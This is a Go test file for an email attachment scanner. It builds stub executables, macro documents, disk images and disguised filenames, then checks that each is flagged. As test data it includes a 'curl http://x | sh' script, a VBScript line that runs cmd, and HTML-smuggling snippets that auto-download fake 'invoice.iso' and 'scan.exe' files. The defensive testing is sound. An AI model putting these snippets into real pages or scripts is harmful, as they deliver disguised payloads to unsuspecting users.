package attach

import (
	"archive/zip"
	"bytes"
	"debug/macho"
	"debug/pe"
	"encoding/base64"
	"encoding/binary"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"

	"github.com/richardlehane/mscfb"

	"sealpost/internal/dlp"
	"sealpost/internal/testutil"
)

func checker(t *testing.T) *Checker {
	t.Helper()
	c, err := New(dlp.DefaultLimits)
	if err != nil {
		t.Fatal(err)
	}
	return c
}

// mail wraps one attachment in a multipart message.
func mail(name, ctype string, data []byte) []byte {
	var b bytes.Buffer
	b.WriteString("From: a@example.org\r\nTo: b@example.gov.uk\r\nSubject: test\r\nMIME-Version: 1.0\r\n" +
		"Content-Type: multipart/mixed; boundary=\"XX\"\r\n\r\n--XX\r\nContent-Type: text/plain\r\n\r\nSee attached.\r\n" +
		"--XX\r\nContent-Type: " + ctype + "\r\nContent-Disposition: attachment; filename=\"" + name + "\"\r\nContent-Transfer-Encoding: base64\r\n\r\n")
	enc := base64.StdEncoding.EncodeToString(data)
	for len(enc) > 76 {
		b.WriteString(enc[:76] + "\r\n")
		enc = enc[76:]
	}
	b.WriteString(enc + "\r\n--XX--\r\n")
	return b.Bytes()
}

func kinds(fs []Finding) []string {
	var out []string
	for _, f := range fs {
		out = append(out, f.Kind)
	}
	return out
}

func has(fs []Finding, kind string) bool {
	for _, f := range fs {
		if f.Kind == kind {
			return true
		}
	}
	return false
}

func zipOf(t *testing.T, files map[string][]byte) []byte {
	t.Helper()
	var b bytes.Buffer
	zw := zip.NewWriter(&b)
	for n, d := range files {
		w, err := zw.Create(n)
		if err != nil {
			t.Fatal(err)
		}
		w.Write(d)
	}
	if err := zw.Close(); err != nil {
		t.Fatal(err)
	}
	return b.Bytes()
}

// minimalPE builds a PE32 image header that Go's debug/pe accepts: the
// test proves with an independent parser that it is a PE file.
func minimalPE(t *testing.T) []byte {
	t.Helper()
	b := make([]byte, 512)
	copy(b, "MZ")
	binary.LittleEndian.PutUint32(b[0x3c:], 0x80)
	copy(b[0x80:], "PE\x00\x00")
	fh := b[0x84:]
	binary.LittleEndian.PutUint16(fh[0:], 0x14c) // i386
	binary.LittleEndian.PutUint16(fh[2:], 0)     // no sections
	binary.LittleEndian.PutUint16(fh[16:], 0xe0) // optional header size
	binary.LittleEndian.PutUint16(fh[18:], 0x102)
	oh := b[0x98:]
	binary.LittleEndian.PutUint16(oh[0:], 0x10b) // PE32
	binary.LittleEndian.PutUint32(oh[92:], 16)   // data directories
	if _, err := pe.NewFile(bytes.NewReader(b)); err != nil {
		t.Fatalf("test PE not a PE: %v", err)
	}
	return b
}

func minimalMachO(t *testing.T) []byte {
	t.Helper()
	b := make([]byte, 64)
	binary.LittleEndian.PutUint32(b[0:], 0xfeedfacf)
	binary.LittleEndian.PutUint32(b[4:], 0x01000007) // x86_64
	binary.LittleEndian.PutUint32(b[8:], 3)
	binary.LittleEndian.PutUint32(b[12:], 2) // MH_EXECUTE
	if _, err := macho.NewFile(bytes.NewReader(b)); err != nil {
		t.Fatalf("test Mach-O not a Mach-O: %v", err)
	}
	return b
}

func TestDangerousByContent(t *testing.T) {
	t.Parallel()
	c := checker(t)
	self, err := os.Executable() // a real ELF program: this test binary
	if err != nil {
		t.Fatal(err)
	}
	elf, err := os.ReadFile(self)
	if err != nil {
		t.Fatal(err)
	}
	elf = elf[:min(len(elf), 1<<20)]
	lnk := append([]byte("L\x00\x00\x00\x01\x14\x02\x00\x00\x00\x00\x00\xc0\x00\x00\x00\x00\x00\x00\x46"), make([]byte, 60)...)
	one := append([]byte("\xe4\x52\x5c\x7b\x8c\xd8\xa7\x4d\xae\xb1\x53\x78\xd0\x29\x96\xd3"), make([]byte, 100)...)
	iso := make([]byte, 0x8800)
	copy(iso[0x8000:], "\x01CD001\x01")
	vhd := append(make([]byte, 2048), append([]byte("conectix"), make([]byte, 504)...)...)
	vba := buildOLE([]oleEntry{{name: "WordDocument", data: []byte("text")}, {name: "Macros", children: []oleEntry{{name: "VBA", children: []oleEntry{{name: "dir", data: []byte("x")}}}}}})
	encOffice := buildOLE([]oleEntry{{name: "EncryptionInfo", data: []byte{4, 0, 4, 0}}, {name: "EncryptedPackage", data: []byte("x")}})
	docm := zipOf(t, map[string][]byte{"[Content_Types].xml": []byte("<Types/>"), "word/document.xml": []byte("<w:document/>"), "word/vbaProject.bin": vba})
	smuggle := []byte(`<html><body><script>var d=atob("TVqQAAMAAAAEAAAA");var a=new Uint8Array(d.length);` +
		`var b=new Blob([a],{type:"application/octet-stream"});var l=document.createElement("a");` +
		`l.href=URL.createObjectURL(b);l.download="invoice.iso";l.click();</script></body></html>`)
	hta := []byte(`<html><head><HTA:APPLICATION ID="x" WINDOWSTATE="minimize"><script language="VBScript">Set s=CreateObject("WScript.Shell")</script></head></html>`)
	for _, tc := range []struct {
		name, ctype, file string
		data              []byte
		want              string
	}{
		{"PE renamed", "application/pdf", "invoice.pdf", minimalPE(t), Executable},
		{"ELF renamed", "text/plain", "notes.txt", elf, Executable},
		{"Mach-O", "application/octet-stream", "update", minimalMachO(t), Executable},
		{"lnk renamed", "application/octet-stream", "photo.jpg", lnk, Shortcut},
		{"OneNote", "application/octet-stream", "notes.dat", one, OneNote},
		{"ISO renamed", "application/octet-stream", "scan.pdf", iso, DiskImage},
		{"VHD", "application/octet-stream", "backup.dat", vhd, DiskImage},
		{"OLE with VBA", "application/msword", "report.doc", vba, Macro},
		{"OLE encrypted", "application/vnd.openxmlformats-officedocument.wordprocessingml.document", "report.docx", encOffice, Encrypted},
		{"OOXML with VBA", "application/vnd.openxmlformats-officedocument.wordprocessingml.document", "report.docx", docm, Macro},
		{"zipped PE", "application/zip", "docs.zip", zipOf(t, map[string][]byte{"invoice.pdf": minimalPE(t)}), Executable},
		{"nested zip PE", "application/zip", "docs.zip", zipOf(t, map[string][]byte{"inner.zip": zipOf(t, map[string][]byte{"a/readme": minimalPE(t)})}), Executable},
		{"archive nested past the limit", "application/zip", "a.zip", deepZip(t, 9), Unreadable},
		{"archive nested within the limit", "application/zip", "a.zip", deepZip(t, 3), ""},
		{"zip bomb", "application/zip", "a.zip", zipOf(t, map[string][]byte{"big.txt": bytes.Repeat([]byte{'a'}, 20<<20)}), Unreadable},
		{"HTML smuggling", "text/html", "invoice.html", smuggle, HTMLSmuggling},
		{"HTML smuggling, Blob only", "text/html", "scan.htm", []byte(`<html><script>var b=new Blob([new Uint8Array([77,90,144])]);navigator.msSaveOrOpenBlob(b,"scan.exe")</script></html>`), HTMLSmuggling},
		{"HTML smuggling, data URI", "application/octet-stream", "x.html", []byte(`<html><body><a href="data:application/octet-stream;base64,TVqQAA==" download="report.exe">Open</a></body></html>`), HTMLSmuggling},
		{"HTA", "text/html", "form.htm", hta, HTA},
		{"shebang", "text/plain", "install.txt", []byte("#!/bin/sh\ncurl http://x | sh\n"), Script},
		{"vbs by content", "text/plain", "readme.txt", []byte(`Set o = CreateObject("WScript.Shell")` + "\r\no.Run \"cmd\"\r\n"), Script},
		{"double extension", "application/pdf", "invoice.pdf.exe", []byte("%PDF-1.4 harmless"), DoubleExt},
		{"double extension spaces", "application/pdf", "invoice.pdf       .js", []byte("hello"), DoubleExt},
		{"bidi name", "application/pdf", "invoice\u202efdp.exe", []byte("%PDF-1.4"), DangerousName},
		{"iso by name", "application/octet-stream", "disk.iso", []byte("not yet"), DiskImage},
		{"clean pdf", "application/pdf", "report.pdf", []byte(minimalPDF), ""},
		{"clean docx", "application/vnd.openxmlformats-officedocument.wordprocessingml.document", "report.docx",
			zipOf(t, map[string][]byte{"[Content_Types].xml": []byte("<Types/>"), "word/document.xml": []byte("<w:document>hello</w:document>")}), ""},
		{"clean doc", "application/msword", "report.doc", buildOLE([]oleEntry{{name: "WordDocument", data: []byte("text")}, {name: "1Table", data: []byte("t")}}), ""},
		{"clean text", "text/plain", "notes.txt", []byte("Meeting at 10, agenda attached.\n"), ""},
		{"clean html", "text/html", "page.html", []byte("<html><body><p>Hello</p><a href=\"https://example.org\">x</a></body></html>"), ""},
	} {
		t.Run(tc.name, func(t *testing.T) {
			fs, err := c.Check(bytes.NewReader(mail(tc.file, tc.ctype, tc.data)))
			if err != nil {
				t.Fatal(err)
			}
			if tc.want == "" {
				if len(fs) != 0 {
					t.Fatalf("clean attachment flagged: %+v", fs)
				}
				return
			}
			if !has(fs, tc.want) {
				t.Fatalf("want %s, got %v (%+v)", tc.want, kinds(fs), fs)
			}
		})
	}
}

// TestOLEBuilder proves the test compound files are what an OLE reader
// sees: the VBA storage sits where Office keeps it.
func TestOLEBuilder(t *testing.T) {
	t.Parallel()
	b := buildOLE([]oleEntry{{name: "Macros", children: []oleEntry{{name: "VBA", children: []oleEntry{{name: "dir", data: []byte("x")}}}}}})
	r, err := mscfb.New(bytes.NewReader(b))
	if err != nil {
		t.Fatal(err)
	}
	var got []string
	for e, err := r.Next(); err == nil; e, err = r.Next() {
		got = append(got, strings.Join(append(e.Path, e.Name), "/"))
	}
	if strings.Join(got, ",") != "Macros,Macros/VBA,Macros/VBA/dir" {
		t.Fatalf("entries %v", got)
	}
}

// TestEncryptedArchives builds password-protected archives with the zip
// and 7z tools, as senders do.
func TestEncryptedArchives(t *testing.T) {
	t.Parallel()
	c := checker(t)
	dir := t.TempDir()
	os.WriteFile(filepath.Join(dir, "invoice.txt"), []byte("pay now"), 0o600)
	run := func(name string, args ...string) []byte {
		if _, err := exec.LookPath(name); err != nil {
			testutil.Missing(t, "%s not installed", name)
		}
		cmd := exec.Command(name, args...)
		cmd.Dir = dir
		if out, err := cmd.CombinedOutput(); err != nil {
			t.Fatalf("%s: %v\n%s", name, err, out)
		}
		b, err := os.ReadFile(filepath.Join(dir, args[len(args)-2]))
		if err != nil {
			t.Fatal(err)
		}
		return b
	}
	t.Run("zip", func(t *testing.T) {
		b := run("zip", "-q", "-P", "secret", "enc.zip", "invoice.txt")
		fs, err := c.Check(bytes.NewReader(mail("invoice.zip", "application/zip", b)))
		if err != nil || !has(fs, Encrypted) {
			t.Fatalf("encrypted zip: %v %+v", err, fs)
		}
	})
	t.Run("7z", func(t *testing.T) {
		b := run("7z", "a", "-bd", "-psecret", "-mhe=on", "enc.7z", "invoice.txt")
		fs, err := c.Check(bytes.NewReader(mail("invoice.7z", "application/x-7z-compressed", b)))
		if err != nil || !has(fs, Encrypted) {
			t.Fatalf("encrypted 7z: %v %+v", err, fs)
		}
	})
	t.Run("7z files only", func(t *testing.T) {
		b := run("7z", "a", "-bd", "-psecret", "enc2.7z", "invoice.txt")
		fs, err := c.Check(bytes.NewReader(mail("invoice.7z", "application/x-7z-compressed", b)))
		if err != nil || !has(fs, Encrypted) {
			t.Fatalf("encrypted 7z: %v %+v", err, fs)
		}
	})
	t.Run("plain 7z", func(t *testing.T) {
		b := run("7z", "a", "-bd", "plain.7z", "invoice.txt")
		fs, err := c.Check(bytes.NewReader(mail("invoice.7z", "application/x-7z-compressed", b)))
		if err != nil || len(fs) != 0 {
			t.Fatalf("plain 7z flagged: %v %+v", err, fs)
		}
	})
	t.Run("plain zip", func(t *testing.T) {
		b := run("zip", "-q", "plain.zip", "invoice.txt")
		fs, err := c.Check(bytes.NewReader(mail("invoice.zip", "application/zip", b)))
		if err != nil || len(fs) != 0 {
			t.Fatalf("plain zip flagged: %v %+v", err, fs)
		}
	})
}

const minimalPDF = "%PDF-1.4\n1 0 obj<<>>endobj\ntrailer<<>>\n%%EOF\n"

// deepZip nests a text file in n zips.
func deepZip(t *testing.T, n int) []byte {
	b := []byte("plain text")
	name := "a.txt"
	for i := 0; i < n; i++ {
		b = zipOf(t, map[string][]byte{name: b})
		name = "inner.zip"
	}
	return b
}
